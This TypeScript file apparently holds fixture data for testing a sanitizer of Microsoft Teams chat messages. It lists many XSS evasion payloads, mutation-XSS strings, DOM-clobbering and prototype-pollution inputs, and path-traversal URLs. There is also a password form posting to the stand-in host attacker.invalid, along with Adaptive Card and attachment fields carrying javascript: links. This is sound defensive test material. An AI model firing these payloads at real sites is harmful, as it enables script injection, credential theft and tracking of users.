/** Each would run `pwn()`, ask attacker.invalid for something, or make itself a part of the page, were it let. */
export const ATTACK_BODIES: readonly string[] = [
  // OWASP "XSS Filter Evasion": scripts and events.
  "<script>pwn()</script>",
  '<script src="https://attacker.invalid/a.js"></script>',
  "<SCRIPT>pwn()</SCRIPT>",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "<script\x0btype='text/javascript'>pwn()</script>",
  "<<script>pwn();//<</script>",
  '<img src=x onerror="pwn()">',
  "<img src=x onerror=pwn()//",
  '<img src="x:gif" onerror=pwn()>',
  '<IMG """><SCRIPT>pwn()</SCRIPT>">',
  "<img/src='x'/onerror=pwn()>",
  "<img src=`x` onerror=pwn()>",
  '<img src=x onerror="&#112;&#119;&#110;&#40;&#41;">',
  '<body onload="pwn()">hello</body>',
  "<body background='https://attacker.invalid/b.png'>hello</body>",
  '<div onmouseover="pwn()" onclick="pwn()" onfocus="pwn()" tabindex=0 autofocus>over</div>',
  "<details open ontoggle=pwn()><summary>x</summary></details>",
  "<marquee onstart=pwn()>x</marquee>",
  "<video><source onerror=pwn()></video>",
  '<video src="https://attacker.invalid/v.mp4" poster="https://attacker.invalid/p.png" autoplay onerror=pwn()></video>',
  '<audio src="https://attacker.invalid/a.mp3" autoplay onerror=pwn()></audio>',
  "<xss style='animation-name:x' onanimationstart=pwn()>x</xss>",
  "<input onfocus=pwn() autofocus>",
  "<select onfocus=pwn() autofocus><option>x</select>",
  "<textarea autofocus onfocus=pwn()></textarea>",
  // Links.
  '<a href="javascript:pwn()">click</a>',
  '<a href="JaVaScRiPt:pwn()">click</a>',
  '<a href=" &#14;  javascript:pwn()">click</a>',
  '<a href="java\nscript:pwn()">click</a>',
  '<a href="java&#x09;script:pwn()">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()">click</a>',
  '<a href="\u0001javascript:pwn()">click</a>',
  '<a href="vbscript:pwn()">click</a>',
  '<a href="data:text/html,<script>pwn()</script>">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">click</a>',
  '<a href="blob:https://attacker.invalid/1">click</a>',
  '<a href="filesystem:https://attacker.invalid/1">click</a>',
  '<a href="//attacker.invalid/relative">click</a>',
  '<a href="/api/app">click</a>',
  '<a href="#x" ping="https://attacker.invalid/ping" target="_self" rel="opener">click</a>',
  '<a href="https://contoso.com" target="_parent" rel="opener" onclick="pwn()" ping="https://attacker.invalid/p">click</a>',
  '<base href="https://attacker.invalid/"><a href="x">click</a>',
  '<map name="m"><area href="javascript:pwn()" shape="default"></map><img usemap="#m" src=x>',
  // What loads by itself.
  '<img src="https://attacker.invalid/pixel.gif">',
  '<img src="//attacker.invalid/pixel.gif" alt="x">',
  '<img srcset="https://attacker.invalid/1x.png 1x" src="https://attacker.invalid/2.png" loading="eager">',
  '<picture><source srcset="https://attacker.invalid/s.png"><img src="https://attacker.invalid/i.png"></picture>',
  '<img lowsrc="https://attacker.invalid/l.png" dynsrc="https://attacker.invalid/d.png">',
  '<iframe src="https://attacker.invalid/"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<iframe src="javascript:parent.pwn()"></iframe>',
  '<object data="https://attacker.invalid/o"></object>',
  '<object data="data:text/html,<script>pwn()</script>"></object>',
  '<embed src="https://attacker.invalid/e">',
  '<applet code="pwn"></applet>',
  '<frameset onload=pwn()><frame src="https://attacker.invalid/"></frameset>',
  '<link rel="stylesheet" href="https://attacker.invalid/s.css">',
  '<link rel="prefetch" href="https://attacker.invalid/p"><link rel="dns-prefetch" href="//attacker.invalid">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwn()">',
  '<table background="https://attacker.invalid/t.png"><tr><td background="https://attacker.invalid/d.png">x</td></tr></table>',
  '<bgsound src="https://attacker.invalid/b.mp3">',
  '<track src="https://attacker.invalid/t.vtt">',
  // Style.
  '<style>@import "https://attacker.invalid/i.css"; body { background: url(https://attacker.invalid/u.png) }</style>',
  "<style>article{display:none}</style>",
  '<div style="background:url(https://attacker.invalid/bg.png)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>',
  '<div style="width: expression(pwn())">x</div>',
  '<div style="behavior:url(#x);-moz-binding:url(https://attacker.invalid/x.xml#x)">x</div>',
  "<p style=\"font-family:'x';--x:url(https://attacker.invalid/v)\">x</p>",
  '<div class="msg target unseen" hidden>dressed as ours</div>',
  // SVG and MathML.
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  '<svg><a xlink:href="javascript:pwn()"><text x="20" y="20">click</text></a></svg>',
  "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
  '<svg><set attributeName="onmouseover" to="pwn()"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  '<svg><image href="https://attacker.invalid/i.svg"/></svg>',
  "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></iframe></foreignObject></svg>",
  "<svg><style>*{background:url(https://attacker.invalid/s)}</style></svg>",
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>\">",
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduKCkiLz4=">',
  '<math href="javascript:pwn()">click</math>',
  '<math><maction actiontype="statusline#https://attacker.invalid" xlink:href="javascript:pwn()">x</maction></math>',
  // Mutation: what is harmless once becomes harmful when it is parsed again.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  "<math><mi><mglyph><style><img src=x onerror=pwn()></style></mglyph></mi></math>",
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<noembed><img title="</noembed><img src onerror=pwn()>"></noembed>',
  '<textarea><img title="</textarea><img src onerror=pwn()>"></textarea>',
  '<xmp><img title="</xmp><img src onerror=pwn()>"></xmp>',
  '<title><img title="</title><img src onerror=pwn()>"></title>',
  "<template><img src=x onerror=pwn()></template>",
  '<div><template shadowrootmode="open"><script>pwn()</script><img src=x onerror=pwn()></template></div>',
  "<!--><img src=x onerror=pwn()>-->",
  "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
  "<![CDATA[<img src=x onerror=pwn()>]]>",
  "<?xml version='1.0'?><script>pwn()</script>",
  '<a title="</a><img src=x onerror=pwn()>">x</a>',
  `${"<div>".repeat(600)}<svg><style><img src=x onerror=pwn()>`,
  `${"<form><h1></form><table></form></table></form></h1></form>".repeat(40)}<math><mtext><style><path id="</style><img onerror=pwn() src>">`,
  // DOM clobbering, and forms.
  '<img name="attributes"><img id="attributes">',
  '<form id="app"><input name="nodeName"><input name="attributes"><input name="childNodes"></form>',
  '<a id="session"><a id="session" name="api" href="https://attacker.invalid/api">x</a></a>',
  '<div id="app">a second one</div>',
  '<form action="https://attacker.invalid/login"><input name="password" type="password"><button formaction="javascript:pwn()">Sign in</button></form>',
  '<button type="button" onclick="pwn()">Sign in again</button>',
  "<dialog open>You are signed out</dialog>",
  "<isindex type=image src=1 onerror=pwn()>",
  // What Teams writes, turned against whoever reads.
  '<at id="0" onclick="pwn()"><script>pwn()</script>Somebody</at>',
  '<at id="constructor">x</at><attachment id="__proto__"></attachment>',
  '<attachment id="hosted" onclick="pwn()"></attachment><attachment id="self"></attachment>',
  '<emoji alt="<img src=x onerror=pwn()>" title="<script>pwn()</script>"></emoji>',
  '<customemoji source="https://attacker.invalid/e.png" alt="x"></customemoji>',
  "<codeblock><code><script>pwn()</script><img src=x onerror=pwn()></code></codeblock>",
  "<pre><script>pwn()</script></pre>",
  '<img src="https://attacker.invalid/hostedContents/../../../secrets/$value">',
  '<img src="https://graph.microsoft.com/v1.0/x/hostedContents/..%2F..%2F..%2Fadmin/$value">',
  '<video src="https://graph.microsoft.com/v1.0/x/hostedContents/%E0%A4%A/$value"></video>',
  '<img itemtype="http://schema.skype.com/Emoji" alt="<script>pwn()</script>" src="https://attacker.invalid/e.png">',
  '<readonly itemtype="http://schema.skype.com/Giphy"><img src="https://attacker.invalid/g.gif"></readonly>',
  "<systemEventMessage onload=pwn()/>",
  // Unicode, and what is too much.
  "<\u0131mg src=x onerror=pwn()>",
  "<a href='https://contoso.com/\u202Egnp.exe'>invoice\u202Efdp.exe</a>",
  "\uFF1Cscript\uFF1Epwn()\uFF1C/script\uFF1E",
  "<\u0000script>pwn()</\u0000script>",
  "<img src=x on\u0000error=pwn()>",
  "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
  "\ud800<script>pwn()</script>\udc00",
  `Z${"\u0335\u0336\u0337\u0338".repeat(2_000)}algo`,
  "{{constructor.constructor('pwn()')()}} \u0024{pwn()} #{pwn()}",
  '"><script>pwn()</script>',
  "'-pwn()-'",
  `<table>${"<tr><td colspan=1000000 rowspan=1000000>x</td></tr>".repeat(50)}</table>`,
  '<ol start="99999999999999999999"><li>x</li></ol>',
  '<img src="data:image/png;base64,AAAA" width="9999999" height="-1">',
];

const RUN = "javascript:pwn()";
const IMAGE = "<img src=x onerror=pwn()>";
const attachment = (contentType: string, content: unknown, rest: object = {}) => ({
  id: "self",
  contentType,
  content: typeof content === "string" ? content : JSON.stringify(content),
  ...rest,
});
const nested = (levels: number): object =>
  levels === 0 ? { type: "TextBlock", text: IMAGE } : { type: "Container", items: [nested(levels - 1)] };

/** The same by everything else of a message that somebody writes. */
export const ATTACK_PARTS: readonly object[] = [
  { subject: IMAGE, from: { user: { id: IMAGE, displayName: `${IMAGE}\u202e` } } },
  {
    from: { user: { id: "__proto__", displayName: "constructor", userIdentityType: "constructor" } },
    importance: "constructor",
  },
  {
    reactions: [
      {
        reactionType: IMAGE,
        displayName: IMAGE,
        reactionContentUrl: "https://attacker.invalid/r",
        user: { user: { displayName: IMAGE } },
      },
      { reactionType: "constructor" },
    ],
  },
  {
    policyMark: "flagged",
    policyViolation: { policyTip: { generalText: IMAGE, complianceUrl: RUN, matchedConditionDescriptions: [IMAGE] } },
  },
  {
    attachments: [
      {
        id: "a",
        contentType: "reference",
        contentUrl: RUN,
        name: IMAGE,
        thumbnailUrl: "https://attacker.invalid/t.png",
      },
    ],
  },
  { attachments: [{ id: "a", contentType: "image/png", contentUrl: "https://attacker.invalid/i.png", name: "x" }] },
  { attachments: [{ id: "a", contentType: "constructor", contentUrl: RUN, content: "[]", name: IMAGE }] },
  {
    attachments: [
      attachment("application/vnd.microsoft.card.adaptive", {
        body: [
          nested(2),
          { type: "Image", url: "https://attacker.invalid/i.png" },
          { type: "Media", sources: [{ url: "https://attacker.invalid/m" }], poster: "https://attacker.invalid/p" },
          { type: "TextBlock", text: "[x](javascript:pwn())" },
          { type: "constructor", text: "x" },
          {
            type: "Container",
            selectAction: { type: "Action.OpenUrl", url: RUN },
            backgroundImage: "https://attacker.invalid/b",
            items: [],
          },
        ],
        backgroundImage: { url: "https://attacker.invalid/b" },
        actions: [{ type: "Action.OpenUrl", title: "x", url: RUN, iconUrl: "https://attacker.invalid/icon" }],
      }),
    ],
  },
  { attachments: [attachment("application/vnd.microsoft.card.adaptive", { body: [nested(2_000)] })] },
  { attachments: [attachment("application/vnd.microsoft.card.adaptive", "{".repeat(10_000))] },
  {
    attachments: [
      attachment("application/vnd.microsoft.card.hero", {
        title: IMAGE,
        text: `<script>pwn()</script><attachment id="self"></attachment>`,
        images: [{ url: "https://attacker.invalid/h.png" }],
        buttons: [{ type: "openUrl", title: "x", value: RUN }],
        tap: { type: "openUrl", value: RUN },
      }),
    ],
  },
  {
    attachments: [
      attachment("application/vnd.microsoft.teams.card.list", {
        title: IMAGE,
        items: [{ title: IMAGE, icon: "https://attacker.invalid/i", tap: { type: "openUrl", value: RUN } }],
      }),
    ],
  },
  {
    attachments: [
      attachment("application/vnd.microsoft.teams.card.o365connector", {
        text: IMAGE,
        sections: [
          {
            activityImage: "https://attacker.invalid/a",
            images: [{ image: "https://attacker.invalid/s" }],
            text: IMAGE,
          },
        ],
        potentialAction: [{ name: "x", targets: [{ os: "default", uri: RUN }] }],
      }),
    ],
  },
  {
    attachments: [
      attachment("application/vnd.microsoft.card.codesnippet", {
        codeSnippetUrl: "https://attacker.invalid/code",
        language: IMAGE,
      }),
    ],
  },
  {
    attachments: [
      attachment("application/vnd.microsoft.card.announcement", {
        title: IMAGE,
        cardImageDetails: { uploadedImageDetail: "https://attacker.invalid/a.png" },
      }),
    ],
  },
  {
    attachments: [
      attachment("messageReference", {
        messageId: `"><script>pwn()</script>`,
        messagePreview: IMAGE,
        messageSender: { user: { displayName: IMAGE } },
      }),
    ],
  },
  {
    attachments: [
      attachment("forwardedMessageReference", {
        originalMessageContent: `${IMAGE}<attachment id="self"></attachment>`,
        originalConversationId: RUN,
        originalMessageId: RUN,
        originalMessageSender: null,
      }),
    ],
  },
  { attachments: [attachment("application/vnd.microsoft.card.fluidEmbedCard", { componentUrl: RUN, text: IMAGE })] },
  {
    messageType: "systemEventMessage",
    eventDetail: {
      "@odata.type": "#microsoft.graph.callRecordingEventMessageDetail",
      callRecordingUrl: RUN,
      callRecordingDisplayName: IMAGE,
    },
  },
  {
    messageType: "systemEventMessage",
    eventDetail: { "@odata.type": `#microsoft.graph.${IMAGE}`, initiator: { user: { displayName: IMAGE } } },
  },
  {
    messageType: "systemEventMessage",
    eventDetail: { "@odata.type": "#microsoft.graph.constructorEventMessageDetail" },
  },
  { body: { contentType: "text", content: `${IMAGE} https://attacker.invalid/"onclick="pwn() javascript:pwn()` } },
  { createdDateTime: `"><script>pwn()</script>`, lastEditedDateTime: IMAGE, deletedDateTime: null },
  { id: "../../secrets", replyToId: "../x" },
];
